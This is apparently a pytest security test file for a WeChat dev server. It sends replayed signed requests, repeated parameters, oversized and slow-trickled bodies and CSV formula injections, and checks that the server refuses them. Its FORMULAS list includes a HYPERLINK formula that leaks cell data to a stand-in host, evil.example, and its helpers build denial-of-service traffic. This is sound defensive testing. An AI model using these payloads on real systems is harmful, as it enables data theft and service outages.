"""Attacks on the development server, and what it answers: replays, repeated parameters, endless and slow
bodies, slow clients, formulas in the CSV export, a broken or unreadable config, and what pages reveal."""

import csv
import io
import json
import os
import pwd
import select
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.parse

import pytest

from admin import simulator
from tests.support import ROOT, TOKEN, DevServer
from wechat.xmlparse import parse_xml


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """One dev server for the attacks; its log goes to a file the tests read while it runs."""
    home = tmp_path_factory.mktemp("security")
    config = home / "config.ini"
    config.write_text("[wechat]\ntoken = %s\n[server]\ndata_dir = %s\nlog_file = %s\n"
                      % (TOKEN, home / "var", home / "wechat.log"))
    server = DevServer({"WECHAT_CONFIG": str(config)})
    with server:
        server.config, server.log = config, home / "wechat.log"
        yield server


def headers_of(url):
    import urllib.request

    with urllib.request.urlopen(url, timeout=10) as answer:
        return {name.lower(): value for name, value in answer.headers.items()}


def still_serving(server):
    response = simulator.post_message(server.url, TOKEN, simulator.text("还在吗"))
    assert response.status == 200 and parse_xml(response.body)["Content"] == "吗在还"


def url_with(server, query, path=""):
    return server.url + path + "?" + (query if isinstance(query, str) else urllib.parse.urlencode(query))


def raw_request(port, head, pieces=(), timeout=10.0):
    """Send a request head and then body pieces, stopping as soon as the server answers (as a client that
    streams a huge body must); returns (bytes of body sent, status line, response body)."""
    sock = socket.create_connection(("127.0.0.1", port))
    sock.sendall(head)
    sent = 0
    for piece in pieces:
        readable, _, _ = select.select([sock], [sock], [], timeout)
        if readable:
            break  # the server has answered (and stopped reading)
        try:
            sock.sendall(piece)
        except OSError:  # it closed its reading side: the answer is waiting
            break
        sent += len(piece)
    sock.settimeout(timeout)
    response = b""
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                break
            response += data
    except OSError:
        pass
    sock.close()
    head_part, _, body = response.partition(b"\r\n\r\n")
    return sent, head_part.split(b"\r\n")[0].decode("latin-1"), body


def chunked_body(total, size=1 << 20):
    """`total` bytes as 1 MiB chunks, generated as they are sent (nothing like 400 MiB is ever in memory)."""
    piece = b"%x\r\n" % size + b"x" * size + b"\r\n"
    for _ in range(total // size):
        yield piece
    yield b"0\r\n\r\n"


def post_head(query, *headers):
    return ("POST /?%s HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: text/xml\r\nConnection: close\r\n%s\r\n"
            % (urllib.parse.urlencode(query), "".join(h + "\r\n" for h in headers))).encode()


def peak_rss_kib(pid):
    with open("/proc/%d/status" % pid) as f:
        return next(int(line.split()[1]) for line in f if line.startswith("VmHWM:"))


# --- replay: the timestamp window ---------------------------------------------------------------

STALE = {
    "captured-11-minutes-ago": lambda now: str(now - 660),
    "an-hour-ahead": lambda now: str(now + 3600),
    "one": lambda now: "1",
    "far-future": lambda now: "9999999999",
    "negative": lambda now: "-5",
    "not-a-number": lambda now: "abc",
}


@pytest.mark.parametrize("name", sorted(STALE))
def test_signed_requests_outside_the_time_window_are_403(server, name):
    timestamp = STALE[name](int(time.time()))
    # A correctly signed query (as found in an old access log), with a new body from someone else.
    query = simulator.signed_query(TOKEN, timestamp=timestamp)
    body = simulator.text("给我转账", source="oSomeoneElse")
    response = simulator.http("POST", server.url, query, body)
    assert response.status == 403 and response.body == b"timestamp outside the allowed window\n"
    verify = simulator.http("GET", server.url, dict(query, echostr="424242"))
    assert verify.status == 403 and b"424242" not in verify.body
    still_serving(server)


def test_the_log_says_why_and_by_how_much(server):
    query = simulator.signed_query(TOKEN, timestamp=str(int(time.time()) - 7200))
    assert simulator.http("POST", server.url, query, simulator.text("x")).status == 403
    line = [line for line in server.log.read_text().splitlines() if "outcome=stale-timestamp" in line][-1]
    assert "status=403" in line and "behind this server's clock" in line
    skew = int(line.split(" is ")[1].split(" s ")[0])
    assert 7190 <= skew <= 7300 and "max_request_age_seconds = 600" in line and "timedatectl" in line


def test_inside_the_window_and_with_the_check_off(tmp_path):
    config = tmp_path / "config.ini"
    config.write_text("[wechat]\ntoken = %s\n[server]\nmax_request_age_seconds = 0\n" % TOKEN)
    with DevServer({"WECHAT_CONFIG": str(config), "WECHAT_DATA_DIR": str(tmp_path / "var")}) as off:
        old = simulator.signed_query(TOKEN, timestamp="1409735669")
        assert simulator.http("POST", off.url, old, simulator.text("旧的")).status == 200
    with DevServer({"WECHAT_CONFIG": str(config), "WECHAT_MAX_REQUEST_AGE": "120",
                    "WECHAT_DATA_DIR": str(tmp_path / "var")}) as short:
        recent = simulator.signed_query(TOKEN, timestamp=str(int(time.time()) - 100))
        assert simulator.http("POST", short.url, recent, simulator.text("近的")).status == 200
        older = simulator.signed_query(TOKEN, timestamp=str(int(time.time()) - 200))
        assert simulator.http("POST", short.url, older, simulator.text("旧的")).status == 403


# --- repeated parameters ------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["signature", "timestamp", "nonce", "msg_signature", "echostr", "encrypt_type"])
def test_parameters_wechat_sends_once_are_refused_when_repeated(server, name):
    query = simulator.signed_query(TOKEN, echostr="1")
    pairs = list(query.items()) + [(name, query.get(name, "x")), (name, "0" * 40)]
    text = urllib.parse.urlencode(pairs)
    for method, body in (("GET", None), ("POST", simulator.text("x"))):
        response = simulator.http(method, url_with(server, text), body=body)
        assert response.status == 400 and response.body == b"repeated query parameter: %s\n" % name.encode()
    still_serving(server)


def test_other_parameters_may_repeat(server):
    query = list(simulator.signed_query(TOKEN).items()) + [("openid", "a"), ("openid", "b")]
    assert simulator.http("POST", url_with(server, urllib.parse.urlencode(query)), body=simulator.text("x")).status == 200


# --- bounded bodies -----------------------------------------------------------------------------

def test_a_400_mib_chunked_body_is_413_and_memory_stays_flat(server):
    pid = server.process.pid
    still_serving(server)
    before = peak_rss_kib(pid)
    sent, status, body = raw_request(server.port, post_head(simulator.signed_query(TOKEN),
                                                            "Transfer-Encoding: chunked"), chunked_body(400 << 20))
    assert status.startswith("HTTP/1.1 413") and b"larger than 65536 bytes" in body
    assert sent < 64 << 20  # it stopped reading long before the end
    growth = peak_rss_kib(pid) - before
    assert growth < 10 * 1024, "peak RSS grew by %d KiB" % growth
    still_serving(server)


@pytest.mark.parametrize("framing", ["one-giant-chunk", "endless-chunk-size-line", "content-length-400-mib"])
def test_other_framings_of_a_huge_body_are_bounded_too(server, framing):
    pid = server.process.pid
    before = peak_rss_kib(pid)
    megabyte = b"x" * (1 << 20)
    head, pieces = {
        "one-giant-chunk": ("Transfer-Encoding: chunked", [b"19000000\r\n"] + [megabyte] * 400),
        "endless-chunk-size-line": ("Transfer-Encoding: chunked", [b"f" * (1 << 20)] * 400),
        "content-length-400-mib": ("Content-Length: %d" % (400 << 20), [megabyte] * 400),
    }[framing]
    sent, status, _ = raw_request(server.port, post_head(simulator.signed_query(TOKEN), head), pieces)
    assert status.startswith("HTTP/1.1 413"), status
    assert peak_rss_kib(pid) - before < 10 * 1024
    still_serving(server)


def test_a_forged_signature_gets_a_whole_answer_whatever_the_body(server):
    for head in ("Transfer-Encoding: chunked", "Content-Length: 70000"):
        sent, status, body = raw_request(server.port, post_head(simulator.signed_query("forged"), head),
                                         chunked_body(400 << 20))
        assert status.startswith("HTTP/1.1 403") and body.endswith(b"signature check failed\n\r\n0\r\n\r\n")
    # A length far past the limit is refused by the server layer before the app is asked (as Apache does).
    sent, status, body = raw_request(server.port, post_head(simulator.signed_query("forged"), "Content-Length: %d"
                                                            % (400 << 20)), chunked_body(400 << 20))
    assert status.startswith("HTTP/1.1 413") and b"exceeds the maximum" in body
    still_serving(server)


def test_a_body_shorter_than_its_length_is_400_once_the_client_stops(server):
    body = simulator.text("short")
    sock = socket.create_connection(("127.0.0.1", server.port))
    sock.sendall(post_head(simulator.signed_query(TOKEN), "Content-Length: %d" % (len(body) + 500)) + body)
    sock.shutdown(socket.SHUT_WR)
    sock.settimeout(5)
    started = time.monotonic()
    answer = b""
    while True:
        data = sock.recv(4096)
        if not data:
            break
        answer += data
    sock.close()
    assert answer.startswith(b"HTTP/1.1 400") and b"shorter than its Content-Length" in answer
    assert time.monotonic() - started < 1
    still_serving(server)


# --- slow clients -------------------------------------------------------------------------------

def test_slow_clients_neither_delay_others_nor_stay_for_ever(server):
    """12 clients sending a byte a second (the issue's 28.5 s stall) while others are served at once;
    the slow ones are cut off once their headers take longer than 10 s."""
    from handlers.devserver import HEADER_SECONDS

    head = post_head(simulator.signed_query(TOKEN), "Content-Length: 500")
    cut_after, lock = [], threading.Lock()

    def trickle():
        sock = socket.create_connection(("127.0.0.1", server.port))
        started = time.monotonic()
        try:
            for byte in head:
                sock.send(bytes([byte]))
                readable, _, _ = select.select([sock], [], [], 1.0)
                if readable:  # the server answered or closed
                    break
        except OSError:
            pass
        with lock:
            cut_after.append(time.monotonic() - started)
        sock.close()

    slow = [threading.Thread(target=trickle, daemon=True) for _ in range(12)]
    for thread in slow:
        thread.start()
    time.sleep(2)  # every slow client holds a connection now
    for _ in range(3):
        started = time.monotonic()
        still_serving(server)
        assert time.monotonic() - started < 1.0
        assert simulator.http("GET", server.url + "health").status == 200
    for thread in slow:
        thread.join(HEADER_SECONDS + 5)
    assert len(cut_after) == 12 and max(cut_after) < HEADER_SECONDS + 3, cut_after
    still_serving(server)


# --- CSV export ---------------------------------------------------------------------------------

# (A carriage return cannot lead a follower's text: XML reads a raw one as a newline, and a &#13; between
# CDATA sections is layout whitespace to the parser. The CSV rule for it is checked on the writer below.)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


def test_a_cell_starting_with_a_carriage_return_is_inert_too():
    from admin.export import inert

    assert inert("\r=1+1") == "'\r=1+1" and inert("1+1") == "1+1"


def test_formulas_from_followers_are_inert_in_csv_and_exact_in_json_lines(server, tmp_path):
    for text in FORMULAS:
        body = simulator.text(text)
        assert simulator.post_message(server.url, TOKEN, body).status == 200
    env = dict(os.environ, WECHAT_CONFIG=str(server.config))

    def export(fmt):
        result = subprocess.run([sys.executable, os.path.join(ROOT, "manage.py"), "export", "--format", fmt],
                                env=env, capture_output=True, timeout=60)
        assert result.returncode == 0, result.stderr
        return result.stdout.decode("utf-8")

    rows = list(csv.DictReader(io.StringIO(export("csv"), newline="")))
    summaries = [row["summary"] for row in rows]
    for text in FORMULAS:
        assert "'" + text in summaries  # shown as text, never run
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    exact = [json.loads(line)["summary"] for line in export("jsonl").splitlines()]
    for text in FORMULAS:
        assert text in exact


# --- quiet errors -------------------------------------------------------------------------------

def test_broken_and_unreadable_config_get_503_without_a_path(tmp_path):
    config = tmp_path / "config.ini"
    config.write_text("[wechat]\ntoken = %s\n" % TOKEN)
    server = DevServer({"WECHAT_CONFIG": str(config), "WECHAT_DATA_DIR": str(tmp_path / "var")})
    with server:
        config.write_text("[wechat\ntoken = %s\n" % TOKEN)  # a broken section header
        broken = (simulator.post_message(server.url, TOKEN, simulator.text("x")),
                  simulator.http("GET", server.url, simulator.signed_query(TOKEN, echostr="1")),
                  simulator.http("GET", server.url + "health"))
        config.unlink()
        config.mkdir()  # root reads any file; a directory in its place cannot be read by anyone
        unreadable = (simulator.post_message(server.url, TOKEN, simulator.text("x")),
                      simulator.http("GET", server.url + "health"))
        config.rmdir()
        config.write_text("[wechat]\ntoken = %s\n" % TOKEN)
        still_serving(server)
    for response in broken + unreadable:
        assert response.status == 503
        assert str(tmp_path).encode() not in response.body and b"config.ini" not in response.body
        assert b"Traceback" not in response.body and b"parsing" not in response.body
    assert b"config: invalid" in broken[0].body and b"config: invalid" in broken[1].body
    health = json.loads(broken[2].body)
    assert health["ok"] is False and health["config"] == "invalid"
    assert b"config: unreadable" in unreadable[0].body and json.loads(unreadable[1].body)["config"] == "unreadable"
    log = server.stderr
    assert "Traceback" not in log
    # One line each that an admin can act on: which file, what is wrong, as which user.
    assert any(str(config) in line and "section header" in line for line in log.splitlines())
    user = pwd.getpwuid(os.geteuid()).pw_name
    assert any(str(config) in line and "as user %s" % user in line for line in log.splitlines())


def test_a_nul_byte_in_a_static_path_is_404(server):
    for path in ("static/%00", "static/style.css%00.png", "static/%00/../style.css"):
        response = simulator.http("GET", server.url + path)
        assert response.status == 404 and b"Traceback" not in response.body
    still_serving(server)


def test_html_pages_forbid_framing_sniffing_and_foreign_resources(server):
    for path in ("", "welcome"):
        headers = headers_of(server.url + path)
        assert headers["content-type"].startswith("text/html")
        assert headers["x-content-type-options"] == "nosniff"
        policy = dict(part.strip().split(" ", 1) for part in headers["content-security-policy"].split(";"))
        assert policy["default-src"] == "'self'" and policy["frame-ancestors"] == "'none'"
        assert "unsafe-inline" not in headers["content-security-policy"]
    health = headers_of(server.url + "health")
    assert health["x-content-type-options"] == "nosniff" and "content-security-policy" not in health


def test_debug_pages_only_from_the_flag(tmp_path):
    """`debug = true` in config does nothing but make doctor complain; --debug warns when it starts."""
    config = tmp_path / "config.ini"
    config.write_text("[wechat]\ntoken = %s\n[server]\ndebug = true\n" % TOKEN)
    env = {"WECHAT_CONFIG": str(config), "WECHAT_DATA_DIR": str(tmp_path / "var")}
    doctor = subprocess.run([sys.executable, os.path.join(ROOT, "manage.py"), "doctor"], capture_output=True,
                            text=True, timeout=120, env=dict(os.environ, **env))
    assert "debug = true in %s" % config in doctor.stderr and "code.py --debug" in doctor.stderr
    server = DevServer(env, args=["--debug"])
    with server:
        pass
    assert "--debug shows tracebacks" in server.stderr


def test_doctor_warns_when_the_clock_is_behind_the_files(tmp_path):
    from admin.security import check_clock

    app = tmp_path / "app"
    shutil.copytree(os.path.join(ROOT, "wechat"), app / "wechat")
    shutil.copy(os.path.join(ROOT, "code.py"), app / "code.py")
    assert check_clock(str(app)) == []
    future = time.time() + 2 * 86400  # a file written "in two days": this clock is two days behind
    os.utime(app / "wechat" / "config.py", (future, future))
    (problem,) = check_clock(str(app))
    assert str(app / "wechat" / "config.py") in problem and "behind" in problem and "timedatectl" in problem
